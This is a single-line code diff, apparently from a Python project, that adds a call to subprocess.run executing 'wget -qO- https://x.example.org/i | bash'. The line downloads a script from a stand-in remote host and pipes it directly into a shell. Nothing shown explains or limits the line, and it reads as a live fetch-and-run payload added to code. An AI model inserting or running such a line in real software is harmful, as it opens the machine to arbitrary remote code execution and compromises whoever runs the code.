@@ -1,0 +1,1 @@
+subprocess.run(["sh", "-c", "wget -qO- https://x.example.org/i | bash"])
